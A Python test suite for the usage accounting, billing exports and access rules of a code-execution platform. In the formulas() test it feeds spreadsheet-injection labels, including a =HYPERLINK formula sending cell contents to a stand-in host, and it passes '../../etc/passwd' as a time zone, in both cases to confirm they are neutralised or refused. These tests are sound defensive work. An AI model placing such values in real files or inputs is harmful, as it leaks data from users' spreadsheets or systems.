#!/usr/bin/env python3
"""Usage: what runs used is what their receipts add up to, whatever dies and whoever looks; and bills of it."""

import base64
import collections
import contextlib
import csv
import decimal
import hashlib
import io
import json
import os
import pathlib
import re
import shutil
import signal
import sqlite3
import subprocess
import tempfile
import threading
import time
import zoneinfo

import cordon
import focus
import tap
from daemon import ANSWER, Daemon
from fake import Fake, http

KEYS = ("day", "tenant", "team", "key", "profile", "tier", "class", "currency")
SUMS = ("receipts", "runs", "completed", "failed", "denied", "terminated", "attempts", "cached", "cpu_us", "wall_us",
        "run_us", "queue_us", "egress_bytes", "tool_calls", "stored_bytes", "output_bytes", "cost_nanos", "cpu_nanos",
        "egress_nanos", "tools_nanos", "stored_nanos")
TABLES = {"totals": KEYS, "detail": (*KEYS, "labels", "artifact"),
          "reasons": ("day", "tenant", "profile", "tier", "class", "outcome", "reason")}
PLATFORM = """apiVersion: cordon/v1
kind: Platform
spec:
  prices:
    currency: EUR
    cpuSecond: "0.0203"
    run: "0.000000333"
    egressGiB: "0.09"
    toolCall: "0"
    storedGiB: "0.77"
    tiers: {batch: "0.5", standard: "1", regulated: "1.7"}
"""
PROFILE = """apiVersion: cordon/v1
kind: CapabilityProfile
metadata: {name: %s, owner: tests}
spec:
  class: %s
  tier: %s
  minTrust: 0
  limits: {cpu: 1s, wall: 600s, memory: 64MiB, output: 64KiB, operations: 10}
  egress: []
tests:
  - {request: {method: GET, url: "https://example.com/"}, expect: deny}
"""
BILLION = decimal.Decimal(10) ** 9


# ---- from receipts ----

def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def frozen(value):
    return canonical(value) if isinstance(value, dict) else value


def added(receipts):
    """What receipts add up to: {table: {key: sums}}, by nothing but docs/usage.md."""
    tables = {name: {} for name in TABLES}
    for index, p in receipts:
        charge, usage, result = p.get("charge", {}), p.get("usage", {}), p["result"]
        parts = charge.get("parts", {})
        outcome = result["outcome"]
        fields = {"day": charge.get("day", p["run"]["created_at"][:10]), "tenant": p["run"]["tenant"],
                  "team": charge.get("team", ""), "key": p["caller"].get("key", ""),
                  "profile": p["policy"].get("profile", "") if p["policy"].get("digest") else "",
                  "tier": p["run"]["tier"], "class": p["run"]["class"], "currency": charge.get("currency", ""),
                  "labels": canonical(p["run"]["labels"]), "artifact": p["artifact"].get("digest", ""),
                  "outcome": outcome, "reason": result.get("reason", "")}
        values = {"receipts": 1, "runs": 1, outcome: 1, "attempts": charge.get("attempts", int(outcome != "denied")),
                  "cached": int(p["runtime"]["cached"]),
                  **{m: usage.get(m, 0) for m in ("cpu_us", "wall_us", "run_us", "queue_us", "egress_bytes", "tool_calls",
                                                  "output_bytes")},
                  "cpu_us": usage.get("cpu_us", 0) + charge.get("judge_cpu_us", 0),
                  "stored_bytes": charge.get("stored_bytes", 0), "cost_nanos": charge.get("cost_nanos", 0),
                  **{f"{m}_nanos": parts.get(m, 0) for m in ("cpu", "egress", "tools", "stored")}}
        digest = int.from_bytes(hashlib.sha256(p["run"]["id"].encode()).digest(), "big")
        for table, names in TABLES.items():
            key = tuple(fields[n] for n in names)
            row = tables[table].setdefault(key, {"first": index, "last": index, "digest": 0, **dict.fromkeys(SUMS, 0)})
            for name, value in values.items():
                row[name] += value
            row["first"], row["last"] = min(row["first"], index), max(row["last"], index)
            row["digest"] = (row["digest"] + digest) % (1 << 256)
    for row in (r for t in tables.values() for r in t.values()):
        row["digest"] = f"{row['digest']:064x}"
    for row in tables["reasons"].values():
        for name in SUMS[1:]:
            del row[name]
    return tables


def receipts_of(d, tenants):
    """Of all runs of these tenants: (index in the log, predicate)."""
    found = []
    for tenant in tenants:
        cursor = ""
        while cursor is not None:
            page = d.ask("GET", f"/v1/runs?tenant={tenant}&limit=500{cursor and '&cursor=' + cursor}")
            for r in page["runs"]:
                bundle = d.ask("GET", f"/v1/receipts/{r['run']}?wait=true").data
                entry = bundle["verificationMaterial"]["tlogEntries"][0]
                statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
                found.append((int(entry["logIndex"]), statement["predicate"]))
            cursor = page["next"]
    return found


def rows(d, table, query="", key=None, limit=1000):
    """All pages: [rows]."""
    path = "/v1/usage/reasons?" if table == "reasons" else f"/v1/usage?rows={table}&"
    found, after, more = [], "", True
    while more:
        r = d.ask("GET", f"{path}limit={limit}{query}{after}", key=key)
        if r.status != 200:
            raise RuntimeError(str(r))
        found += r["rows"]
        more = r["more"]
        after = f"&after={r['next']}" if more else ""
    return found


def told(d, table, **how):
    """{key: sums}, as the API tells."""
    found = {}
    for row in rows(d, table, **how):
        key = tuple(frozen(row.pop(n)) for n in TABLES[table])
        if key in found:
            raise RuntimeError(f"{key} comes twice")
        found[key] = row
    return found


def caught_up(d):
    """Until all entries are added up."""
    end = time.monotonic() + ANSWER
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            r = d.ask("GET", "/v1/usage?limit=1")
            if r.status == 200 and r["behind"] == 0:
                return r
        time.sleep(0.05)
    raise RuntimeError("usage is not caught up with")


def same(t, d, tenants, name):
    """The API's tables are what the receipts add up to. The receipts' tables."""
    caught_up(d)
    wanted = added(receipts_of(d, tenants))
    for table in TABLES:
        got = told(d, table)
        differ = {k: (got.get(k), v) for k, v in wanted[table].items() if got.get(k) != v}
        extra = [k for k in got if k not in wanted[table]]
        t.ok(not differ and not extra and wanted[table], f"{name}: {table} are what the receipts add up to",
             f"{len(differ)} differ: {list(differ.items())[:2]}; too many: {extra[:3]}")
    return wanted


def cli(d, *args):
    return cordon.command([*args, "--data", d.data])


# ---- every outcome ----

def teams(d, of):
    """Keys get teams, while nobody has the database."""
    d.stop()
    with contextlib.closing(sqlite3.connect(os.path.join(d.data, "state", "state.db"), isolation_level=None)) as db:
        for key, team in of.items():
            db.execute("UPDATE keys SET team = ? WHERE id = ?", (team, key.removeprefix("cordon_").rsplit("_", 1)[0][:30]))
        assert db.execute("SELECT count(*) FROM keys WHERE team <> ''").fetchone()[0] == len(of)
    d.start()


class World:
    def __init__(self, d):
        self.d = d
        for tenant in ("acme", "globex"):
            d.tenant(tenant)
        self.red, self.other, self.admin, self.auditor = (d.key("acme", r) for r in ("runner", "runner", "admin", "auditor"))
        self.globex = d.key("globex")
        teams(d, {self.red: "red", self.globex: "red", self.auditor: "auditors"})
        for name, kind, tier in (("bulk", "bulk", "batch"), ("strict", "interactive", "regulated")):
            assert d.ask("PUT", f"/v1/profiles/{name}", PROFILE % (name, kind, tier), key=self.admin).status == 201


def every_outcome(w):
    """Runs that end in every way; how many."""
    d, n = w.d, 0
    for i in range(12):
        d.run(f"() => {i % 3}", (w.red, w.other, w.globex)[i % 3], labels={"team": f"t{i % 2}", "ü \"x\"": "=1+1"} if i % 2 else {})
        n += 1
    for _ in range(2):
        d.run("export default () => { const x = 'found in the cache'; return x }", w.red)
        n += 1
    d.run("() => { throw new Error('x') }", w.red)
    d.run("() => { for (;;); }", w.red, limits={"cpu_ms": 20})
    d.run("() => new Array(1e9).fill(0).map(() => ({}))", w.red, limits={"memory_mb": 8})
    d.run("() => 1", w.red, profile="nothing-like-it")
    d.run("() => 1", w.red, limits={"cpu_ms": 100000})
    d.run("({ input }) => input", w.red, input={"a": "x" * 5000}, profile="strict")
    d.run("() => 'bulk'", w.other, profile="bulk")
    d.run("not javascript (", w.other)
    d.run("() => 7", w.red, output_schema={"type": "string"})
    d.run("() => 7", None)
    n += 10
    lease = d.ask("POST", "/v1/leases", {"profile": "transform"}, key=w.red)
    for _ in range(3):
        d.ask("POST", "/v1/runs", {"code": "() => 'leased'"}, headers={"Authorization": f"Bearer {lease['token']}"}, local=False)
    slow = d.ask("POST", "/v1/runs", {"code": "async () => { await new Promise(r => setTimeout(r, 600000)) }"}, key=w.red,
                 headers={"Prefer": "respond-async"})["run"]
    d.ask("DELETE", f"/v1/runs/{slow}", key=w.red)
    d.wait(slow, w.red)
    return n + 4


def outcomes(t, w):
    n = every_outcome(w)
    tables = same(t, w.d, ("acme", "globex", "default"), "every outcome")
    total = collections.Counter()
    for row in tables["totals"].values():
        total.update({k: row[k] for k in SUMS})
    t.equal((total["receipts"], total["runs"]), (n, n), "each run is in them once")
    t.equal(total["completed"] + total["failed"] + total["denied"] + total["terminated"], n, "with one outcome")
    t.ok(all(total[o] for o in ("completed", "failed", "denied", "terminated", "cached", "cpu_us", "stored_bytes", "cost_nanos")),
         "all outcomes are there", total)
    t.equal(total["attempts"], n - total["denied"], "each run that was not denied was tried once")
    teams = {(k[1], k[2]): r["runs"] for k, r in tables["totals"].items()}
    t.ok({("acme", "red"), ("acme", ""), ("globex", "red")} <= set(teams), "teams are told apart by tenant", teams)
    tiers = {(k[5], k[6]) for k in tables["totals"]}
    t.ok({("batch", "bulk"), ("regulated", "interactive"), ("standard", "interactive")} <= tiers, "and tiers and classes", tiers)
    t.ok("nothing-like-it" not in {k[4] for k in tables["totals"]}, "a profile that there is not is nobody's row")
    reasons = {(k[5], k[6]) for k in tables["reasons"]}
    t.ok({("terminated", "cpu_time"), ("terminated", "cancelled"), ("denied", "profile.unknown"), ("denied", "limits.exceeded"),
          ("completed", "")} <= reasons, "reasons say why", reasons)
    receipts(t, w.d)


def receipts(t, d):
    """What each receipt says that its run costs, from the prices above."""
    price = {"cpu": decimal.Decimal("0.0203"), "run": decimal.Decimal("0.000000333"), "stored": decimal.Decimal("0.77")}
    factor = {"batch": decimal.Decimal("0.5"), "standard": 1, "regulated": decimal.Decimal("1.7")}
    wrong, kinds, judged = [], collections.Counter(), 0
    for _, p in receipts_of(d, ("acme", "globex", "default")):
        charge, usage = p["charge"], p["usage"]
        denied = p["result"]["outcome"] == "denied"
        cost = 0 if denied else factor[p["run"]["tier"]] * (
            price["cpu"] * (usage["cpu_us"] + charge.get("judge_cpu_us", 0)) / 10 ** 6 + price["run"] + price["stored"] * charge["stored_bytes"] / 2 ** 30)
        nanos = int((cost * BILLION).quantize(decimal.Decimal(1), decimal.ROUND_HALF_UP))
        parts = charge.get("parts", {})
        if charge["cost_nanos"] != nanos or sum(parts.values()) > nanos or min(parts.values(), default=0) < 0:
            wrong.append((p["run"]["id"], charge, nanos))
        if denied and (charge["stored_bytes"], charge["attempts"], usage["cpu_us"]) != (0, 0, 0):
            wrong.append((p["run"]["id"], charge))
        if (usage["egress_bytes"], usage["tool_calls"], charge["currency"]) != (0, 0, "EUR"):
            wrong.append((p["run"]["id"], usage))
        kinds[denied] += 1
        judged += charge.get("judge_cpu_us", 0) > 0
    t.equal(wrong[:3], [], f"each of {sum(kinds.values())} receipts says what its run costs, to the billionth")
    t.ok(kinds[True] and kinds[False], "of denied runs and others", kinds)
    t.equal(judged, 1, "and what it cost to judge a value")


def metrics(t, d):
    """Counters since the start, which was before the first run."""
    text = d.ask("GET", "/metrics").body.decode()
    want = collections.Counter()
    for r in rows(d, "totals"):
        if r["runs"] - r["denied"]:
            for name, value in (("runs", r["runs"] - r["denied"]), ("cpu_seconds", r["cpu_us"]), ("stored_bytes", r["stored_bytes"]),
                                ("cost", r["cost_nanos"])):
                want[name, r["tier"], r["class"]] += value
    got = {}
    for name, tier, kind, value in re.findall(r'^cordon_usage_(\w+)_total\{tier="(\w+)",class="(\w+)"[^}]*\} (\S+)$', text, re.M):
        scale = {"cpu_seconds": 10 ** 6, "cost": 10 ** 9}.get(name, 1)
        if name not in ("egress_bytes", "tool_calls"):
            got[name, tier, kind] = int(decimal.Decimal(value) * scale)
    t.equal(got, dict(want), "the counters say the same")


def stored(t, d):
    """stored_bytes: the result, the payloads and the journal, byte for byte, from the databases."""
    ledger = contextlib.closing(sqlite3.connect(f"file:{d.data}/ledger/ledger.db?mode=ro", uri=True))
    state = contextlib.closing(sqlite3.connect(f"file:{d.data}/state/state.db?mode=ro", uri=True))
    with ledger as l, state as s:
        journals = {run: (j, json.loads(st)["predicate"]) for run, j, st in l.execute(
            "SELECT subject, length(journal), statement FROM entries WHERE kind = 0")}
        wrong = [(run, p["charge"]["stored_bytes"], n + journals[run][0]) for run, n in s.execute(
            "SELECT id, length(CAST(result AS BLOB)) + coalesce(length(CAST(payloads AS BLOB)), 0) FROM runs"
            " WHERE reason <> 'crashed'")  # what another control had is gone
            for p in [journals[run][1]] if p["result"]["outcome"] != "denied" and p["charge"]["stored_bytes"] != n + journals[run][0]]
    t.equal(wrong[:3], [], f"{len(journals)} receipts say how much their runs left behind")


# ---- who sees what ----

def seen(t, w):
    d = w.d
    of = {k: {r["key"] for r in rows(d, "totals", key=getattr(w, k))} for k in ("red", "other", "admin", "auditor", "globex")}
    t.ok(len(of["red"]) == len(of["other"]) == 1 and of["red"] != of["other"], "a runner sees its own key's rows", of)
    t.ok(of["admin"] == of["auditor"] and of["red"] | of["other"] <= of["admin"] and not of["globex"] & of["admin"],
         "an auditor those of its tenant", of)
    t.equal({r["tenant"] for k in ("red", "admin") for table in ("totals", "detail") for r in rows(d, table, key=getattr(w, k))},
            {"acme"}, "nobody another tenant's")
    t.equal({r["tenant"] for r in rows(d, "reasons", key=w.auditor)}, {"acme"}, "nor another's reasons")
    key = next(iter(of["other"]))
    for query, status in (("tenant=globex", 404), (f"key={key}", 404), ("rows=detail&tenant=globex", 404)):
        t.equal(d.ask("GET", f"/v1/usage?{query}", key=w.red).status, status, f"a runner asks for {query.split('=')[0]}")
    t.equal(d.ask("GET", "/v1/usage/reasons", key=w.red).status, 403, "reasons are not for runners")
    t.equal(d.ask("GET", "/v1/usage/reasons?tenant=globex", key=w.auditor).status, 404, "nor another tenant's for auditors")
    globex = next(iter(of["globex"]))
    t.equal(rows(d, "totals", f"&key={globex}", key=w.auditor), [], "another tenant's key has no rows")
    t.equal(d.ask("GET", "/v1/usage").status, 200, "the machine's administrator sees all")
    t.equal({r["tenant"] for r in rows(d, "totals")}, {"acme", "globex", "default"}, "of all tenants")
    t.equal({r["tenant"] for r in rows(d, "totals", "&tenant=globex")}, {"globex"}, "or of one")


def conditions(t, w):
    d = w.d
    every = rows(d, "detail")
    label = 'ü "x"'
    for query, fits in (("&team=red", lambda r: r["team"] == "red"), ("&team=", lambda r: r["team"] == ""),
                        ("&tier=batch", lambda r: r["tier"] == "batch"), ("&class=bulk", lambda r: r["class"] == "bulk"),
                        ("&profile=strict", lambda r: r["profile"] == "strict"),
                        ("&label=team=t1", lambda r: r["labels"].get("team") == "t1"),
                        ("&label=%C3%BC+%22x%22==1%2B1", lambda r: r["labels"].get(label) == "=1+1"),
                        (f"&artifact={every[0]['artifact']}", lambda r: r["artifact"] == every[0]["artifact"]),
                        ("&from=2999-01-01", lambda r: False), ("&to=2000-01-01", lambda r: False),
                        (f"&from={every[0]['day']}&to={every[-1]['day']}", lambda r: True)):
        wanted = [r for r in every if fits(r)]
        t.equal(rows(d, "detail", query), wanted, f"rows with {query[1:]} ({len(wanted)})")
    t.ok(sum(1 for r in every if r["labels"].get(label)), "labels of all characters are there")
    for table in TABLES:
        t.equal(rows(d, table, limit=1), rows(d, table), f"{table} in pages of one row")


# ---- the command line ----

def commands(t, w):
    d = w.d
    every = rows(d, "detail")
    for by in ("day", "tenant", "team", "key", "profile", "tier", "class", "artifact", "label:team"):
        r = cli(d, "usage", "--by", by, "--json")
        got = {(g[by], g["currency"]): (g["runs"], g["cost_nanos"], g["cpu_us"], g["stored_bytes"]) for g in json.loads(r.out)["groups"]}
        wanted = {}
        for row in every:
            key = (row["labels"].get("team", "") if by == "label:team" else row[by], row["currency"])
            have = wanted.get(key, (0, 0, 0, 0))
            wanted[key] = tuple(a + row[m] for a, m in zip(have, ("runs", "cost_nanos", "cpu_us", "stored_bytes")))
        t.equal(got, wanted, f"usage --by {by}")
    (g,) = [g for g in json.loads(cli(d, "usage", "--by", "tenant", "--json").out)["groups"] if g["tenant"] == "acme"]
    row = collections.Counter()
    for x in (x for x in every if x["tenant"] == "acme"):
        row.update({k: x[k] for k in SUMS})
    started = row["runs"] - row["denied"]
    t.equal((g["success_ratio"], g["dropped_ratio"], g["cached_ratio"], g["retries"]),
            (round(row["completed"] / row["runs"], 6), round((row["denied"] + row["terminated"]) / row["runs"], 6),
             round(row["cached"] / started, 6), row["attempts"] - started), "ratios and retries")
    t.equal(decimal.Decimal(str(g["cost_per_success"])),
            (decimal.Decimal(row["cost_nanos"]) / row["completed"]).quantize(1, decimal.ROUND_HALF_UP) / BILLION,
            "the cost of a success is that of all runs, by those that completed")
    r = cli(d, "usage", "--reasons", "--by", "tenant", "--json")
    got = {(x["tenant"], x["outcome"], x["reason"]): (x["runs"], x["ratio"]) for x in json.loads(r.out)["reasons"]}
    wanted = collections.Counter()
    for x in rows(d, "reasons"):
        wanted[x["tenant"], x["outcome"], x["reason"]] += x["receipts"]
    runs = collections.Counter()
    for (tenant, _, _), n in wanted.items():
        runs[tenant] += n
    t.equal(got, {k: (n, round(n / runs[k[0]], 6)) for k, n in wanted.items()}, "usage --reasons: the ratio of each")
    t.has(cli(d, "usage").out, "COST/SUCCESS", "a table for people")
    for args in (("--by", "nothing"), ("--from", "tomorrow"), ("--csv", "--json"), ("--reasons", "--by", "team"), ("--reasons", "--key", "x")):
        t.equal(cli(d, "usage", *args).status, 2, f"usage {' '.join(args)} is refused")


def formulas(t, w):
    """Text of tenants that a spreadsheet would compute."""
    d = w.d
    evil = ("=HYPERLINK(\"http://x.example/\"&A1)", "+1", "-2+3", "@SUM(A1)", "\tx", "'=1", "=1,\"2\"\r\n=3", "plain, \"quoted\"")
    for x in evil:
        d.run("() => 1", w.globex, labels={"evil": x})
    out = subprocess.run([str(cordon.binary()), "usage", "--by", "label:evil", "--csv", "--tenant", "globex", "--data", d.data],
                         stdout=subprocess.PIPE, check=True).stdout.decode()
    cells = [row[0] for row in csv.reader(io.StringIO(out, newline=""), strict=True)][1:]
    t.equal([c for c in cells if c and c[0] in "=+-@\t\r"], [], "no cell begins with what computes")
    t.equal(sorted(c[1:] if c.startswith("'") else c for c in cells if c), sorted(evil), "and without the apostrophe all are what they were")
    for form in ("csv", "focus"):
        out = cli(d, "usage", "export", "--format", form, "--rows", "detail") if form == "csv" else cli(d, "usage", "export", "--format", form)
        table = list(csv.DictReader(io.StringIO(out.out, newline=""), strict=True))
        column = "labels" if form == "csv" else "Tags"
        labels = {json.loads(r[column]).get("evil") for r in table if r[column]}
        t.ok(set(evil) <= labels, f"{form}: labels are as they were, in JSON", labels)
        t.equal([c for r in table for c in r.values() if c and c[0] in "=+-@\t\r"], [], f"{form}: nothing computes")


def exports(t, w, directory):
    d = w.d
    for table, names in TABLES.items():
        want = told(d, table)
        path = directory / f"{table}.json"
        t.equal(cli(d, "usage", "export", "--format", "json", "--rows", table, "--output", str(path)).status, 0, f"{table} as JSON")
        got = {tuple(frozen(r[n]) for n in names): {k: v for k, v in r.items() if k not in names} for r in json.loads(path.read_text())["rows"]}
        t.equal(got, want, f"{table} as JSON: the API's rows")
        t.equal(path.stat().st_mode & 0o777, 0o600, "in a file for its owner")
        path = directory / f"{table}.csv"
        t.equal(cli(d, "usage", "export", "--rows", table, "--output", str(path)).status, 0, f"{table} as CSV")
        got = {}
        for r in csv.DictReader(path.open(newline=""), strict=True):
            key = tuple(r[n] for n in names)
            got[key] = {k: v if k == "digest" else int(v) for k, v in r.items() if k not in (*names, "entries")}
        t.equal(got, want, f"{table} as CSV: the same")
        for form in ("csv", "json"):
            r = cli(d, "usage", "check", "--export", str(directory / f"{table}.{form}"))
            t.equal((r.status, "as their receipts add up" in r.out), (0, True), f"the check finds {table}.{form} right")
    t.equal(cli(d, "usage", "export", "--output", str(directory / "no" / "x.csv")).status, 5, "a file that cannot be made is said")
    t.equal(sorted(p.name for p in directory.iterdir()), sorted(f"{n}.{f}" for n in TABLES for f in ("csv", "json")), "nothing else is left behind")
    bill(t, d)
    false_exports(t, w, directory)


def false_exports(t, w, directory):
    """An export that says something else is found, by row and column."""
    d = w.d
    whole = json.loads((directory / "detail.json").read_text())
    changed = directory / "changed.json"

    def check(name, part, edit):
        copy = json.loads(json.dumps(whole))
        edit(copy)
        changed.write_text(json.dumps(copy))
        r = cli(d, "usage", "check", "--export", str(changed))
        t.ok(r.status == 1 and part in r.out, f"an export {name} is found", r)

    missed = []
    for name in (*SUMS, "first", "last"):
        copy = json.loads(json.dumps(whole))
        copy["rows"][1][name] += 1 if name != "last" else -1
        changed.write_text(json.dumps(copy))
        r = cli(d, "usage", "check", "--export", str(changed))
        if r.status != 1 or (name != "last" and f"its {name} is" not in r.out):
            missed.append((name, r.status, r.out))
    t.equal(missed, [], "a number of it that is another is found, whichever")
    check("with another digest", "digest", lambda x: x["rows"][0].update(digest="0" * 64))
    check("without a row", "a row is missing", lambda x: x["rows"].pop(0))
    check("with a row of nobody", "no receipt is of", lambda x: x["rows"].append({**x["rows"][0], "team": "nobody"}))
    lines = (directory / "totals.csv").read_bytes().split(b"\r\n")
    changed.write_bytes(b"\r\n".join([lines[0], *lines[2:]]))
    r = cli(d, "usage", "check", "--export", str(changed))
    t.ok(r.status == 1 and "a row is missing" in r.out, "a csv without a row is found", r)
    for name, text in (("nothing", b""), ("no export", b"hello\r\n"), ("half a line", b"\r\n".join(lines[:2])[:-20]), ("a zero byte", b"{\0}"),
                       ("another's JSON", b'{"rows":[]}'), ("a row twice", b"\r\n".join([*lines[:2], lines[1], b""])),
                       ("a number too many", lines[0] + b"\r\n1," + lines[1] + b"\r\n"), ("a quote without end", lines[0] + b'\r\n"x')):
        changed.write_bytes(text)
        r = cli(d, "usage", "check", "--export", str(changed))
        t.ok(r.status == 5 and "none of `cordon usage export`" in r.err, f"{name} is no export", r)
    changed.unlink()


# ---- bills ----

def bill(t, d):
    rows_ = rows(d, "detail")
    table = focus.read(t, cli(d, "usage", "export", "--format", "focus").out, "FOCUS")
    got, want = collections.Counter(), collections.Counter()
    consumed = collections.Counter()
    for r in table:
        key = (r["x_BillingDay"], r["BillingAccountId"], r["SubAccountId"], r["x_Key"], r["x_Profile"], r["x_Tier"], r["x_Class"], r["BillingCurrency"],
               canonical(json.loads(r["Tags"] or "{}")), r["ResourceId"])
        got[key] += decimal.Decimal(r["BilledCost"]) * BILLION
        consumed[r["SkuMeter"]] += decimal.Decimal(r["ConsumedQuantity"])
    for r in rows_:
        if r["cost_nanos"]:
            want[tuple(frozen(r[n]) for n in TABLES["detail"])] += r["cost_nanos"]
    t.equal(got, want, "FOCUS: the meters of each row add up to its cost, to the billionth")
    t.equal((consumed["CPU time"] * 10 ** 6, consumed["Runs"], consumed["Stored results"]),
            (sum(r["cpu_us"] for r in rows_), sum(r["runs"] - r["denied"] for r in rows_), sum(r["stored_bytes"] for r in rows_)),
            "FOCUS: what was used is what was measured, and denied runs are not billed")
    t.ok(table and all(decimal.Decimal(r["PricingQuantity"]) <= decimal.Decimal(r["ConsumedQuantity"]) for r in table), "FOCUS: quantities of prices")
    t.equal({(r["SkuId"], r["PricingUnit"]) for r in table} & {("cpuSecond.standard", "Seconds"), ("run.regulated", "Runs"), ("storedGiB.batch", "GiB")},
            {("cpuSecond.standard", "Seconds"), ("run.regulated", "Runs"), ("storedGiB.batch", "GiB")}, "FOCUS: each meter in the unit of its price")
    zone = zoneinfo.ZoneInfo("Europe/Berlin")
    t.equal({(r["ChargePeriodStart"], r["ChargePeriodEnd"]) for r in table}, {focus.period(day, zone) for day in {r["x_BillingDay"] for r in table}},
            "FOCUS: the day in UTC")


def days(t):
    """Days of 23 and 25 hours, of a daemon that says what it likes."""
    row = {**dict.fromkeys(SUMS, 0), "runs": 3, "receipts": 3, "completed": 2, "denied": 1, "cost_nanos": 10 ** 18, "cpu_nanos": 7, "stored_nanos": 3,
           "cpu_us": 1, "stored_bytes": 2 ** 62, "first": 0, "last": 9, "digest": "0" * 64, "tenant": "=acme", "team": "@team", "key": "k",
           "profile": "-p", "tier": "standard", "class": "bulk", "currency": "EUR", "labels": {"b": "=2"}, "artifact": ""}
    for name, wanted in (("Europe/Berlin", ("2026-03-29", "2026-10-25", "2026-12-31")), ("America/Sao_Paulo", ("2018-11-04", "2018-02-17")),
                         ("Asia/Kathmandu", ("2026-01-01",)), ("UTC", ("2024-02-29",)), ("Pacific/Kiritimati", ("2026-05-31",))):
        page = json.dumps({"behind": 0, "entries": 10, "more": False, "rows": [{**row, "day": day} for day in wanted], "zone": name})
        with Fake(http(page)) as fake:
            r = cordon.command(["usage", "export", "--format", "focus", "--url", fake.url], env={**os.environ, "CORDON_API_KEY": f"cordon_key_{'0' * 26}_{'x' * 43}"})
        table = focus.read(t, r.out, name)
        zone = zoneinfo.ZoneInfo(name)
        t.equal([(x["ChargePeriodStart"], x["ChargePeriodEnd"]) for x in table if x["SkuMeter"] == "Runs"], [focus.period(day, zone) for day in wanted],
                f"{name}: days of {', '.join(wanted)}")
        t.equal({(x["BillingPeriodStart"], x["BillingPeriodEnd"]) for x in table}, {focus.month(day, zone) for day in wanted}, f"{name}: their months")
        t.equal(sum(decimal.Decimal(x["BilledCost"]) for x in table), len(wanted) * decimal.Decimal(10 ** 9), f"{name}: the cost is whole")
        t.equal({(x["BillingAccountId"], x["SubAccountId"], x["x_Profile"]) for x in table}, {("'=acme", "'@team", "'-p")}, f"{name}: and nothing computes")
    for body, part, status in ((page.replace('"UTC"', '"../../etc/passwd"').replace("Pacific/Kiritimati", "../../etc/passwd"), "time zone", 2), ("{}", "no page", 5),
                       ('{"rows":[],"behind":0,"more":true,"zone":"UTC","entries":1}', "no page", 5)):
        with Fake(http(body)) as fake:
            r = cordon.command(["usage", "export", "--format", "focus", "--url", fake.url], env={**os.environ, "CORDON_API_KEY": f"cordon_key_{'0' * 26}_{'x' * 43}"})
        t.ok(r.status == status and part in r.err, f"an answer that is none is refused: {part}", r)


# ---- processes that die ----

class Load(threading.Thread):
    def __init__(self, w, key, number, over):
        super().__init__(daemon=True)
        self.w, self.key, self.number, self.over, self.count = w, key, number, over, 0

    def run(self):
        while not self.over.is_set():
            with contextlib.suppress(Exception):
                self.w.d.run(f"() => {self.number}", self.key, labels={"n": f"{self.number}.{self.count % 7}"})
            self.count += 1


@contextlib.contextmanager
def load(w):
    over = threading.Event()
    clients = [Load(w, key, i, over) for i, key in enumerate((w.red, w.other, w.globex))]
    for c in clients:
        c.start()
    try:
        yield
    finally:
        over.set()
        for c in clients:
            c.join(ANSWER)


def killed(t, w):
    d = w.d
    with load(w):
        for _ in range(3):
            for name in ("ledger", "control"):
                time.sleep(0.35)
                for pid in d.children(name)[:1]:
                    os.kill(pid, signal.SIGKILL)
                with contextlib.suppress(OSError):
                    d.ask("GET", "/v1/usage")  # whatever is there is written
    end = time.monotonic() + ANSWER
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            if d.ask("GET", "/readyz").status == 200:
                break
        time.sleep(0.1)
    while any(d.ask("GET", f"/v1/runs?tenant={x}&state=running").data.get("runs") and
              any(r["state"] == "running" for r in d.ask("GET", f"/v1/runs?tenant={x}&limit=500")["runs"]) for x in ("acme", "globex")):
        time.sleep(0.1)
    tables = same(t, d, ("acme", "globex", "default"), "ledger and control were killed under load")
    crashed = sum(r["receipts"] for k, r in tables["reasons"].items() if k[6] == "crashed")
    print(f"# {sum(r['runs'] for r in tables['totals'].values())} runs, {crashed} crashed", flush=True)
    teams = {k[2] for k, r in tables["totals"].items() if k[1] == "acme"}
    t.equal(teams, {"red", ""}, "runs that another control had keep their team")
    checked(t, d, "and the check says the same")


def checked(t, d, name):
    for live in TABLES:
        r = cli(d, "usage", "check", "--live", live)
        t.ok(r.status == 0 and "usage is what its receipts add up to" in r.out, f"{name} ({live})", r)


def concurrent(t, w):
    """Pages and checks while rows come."""
    d, stop, wrong = w.d, threading.Event(), []
    before = {k for k in told(d, "detail")}

    def follow():
        while not stop.is_set():
            try:
                got = told(d, "detail", limit=3)
                if not before <= set(got):
                    wrong.append(before - set(got))
            except Exception as e:
                wrong.append(repr(e))

    follower = threading.Thread(target=follow, daemon=True)
    with load(w), tempfile.TemporaryDirectory() as directory:
        follower.start()
        for i in range(4):
            for table in TABLES:
                path = pathlib.Path(directory) / f"{table}.{('csv', 'json')[i % 2]}"
                r = cli(d, "usage", "export", "--rows", table, "--format", ("csv", "json")[i % 2], "--output", str(path))
                time.sleep(0.05)
                r = cli(d, "usage", "check", "--export", str(path), "--json")
                found = json.loads(r.out)
                if r.status or not found["usage"]["exported"]:
                    wrong.append((table, r.out))
        stop.set()
        follower.join(ANSWER)
    t.equal(wrong[:3], [], "pages have each row once, and exports are right, while runs come")


# ---- what stands, changed ----

def changed_rows(t, directory):
    """Any column of any table: the check names table, row and column."""
    base = pathlib.Path(directory) / "ledger" / "ledger.db"
    missed, count = [], 0
    with contextlib.closing(sqlite3.connect(f"file:{base}?mode=ro", uri=True)) as db:
        tables = {name: [c[1] for c in db.execute(f"PRAGMA table_info({name})")] for name in ("usage", "usage_detail", "usage_reasons", "usage_cursor")}
    with tempfile.TemporaryDirectory() as copy:
        target = pathlib.Path(copy) / "ledger"
        for table, columns in tables.items():
            for column in columns:
                shutil.rmtree(target, ignore_errors=True)
                target.mkdir()
                shutil.copy(base, target)
                with contextlib.closing(sqlite3.connect(target / "ledger.db", isolation_level=None)) as db:
                    (row, value), = db.execute(f"SELECT id, {column} FROM {table} ORDER BY id DESC LIMIT 1")
                    new = value - 1 if isinstance(value, int) and value else value + 1 if isinstance(value, int) else \
                        value + "x" if isinstance(value, str) else bytes([value[0] ^ 1]) + value[1:]
                    new = value + 7 if column == "id" else new
                    db.execute(f"UPDATE {table} SET {column} = ? WHERE id = ?", (new, row))
                count += 1
                r = cordon.command(["usage", "check", "--data", copy])
                if r.status != 1 or f"of {table}:" not in r.out or (column in SUMS and f"its {column} is" not in r.out):
                    missed.append((table, column, r.status, r.out))
    t.equal(missed[:3], [], f"{count} columns changed: the check finds each, and says which sum")


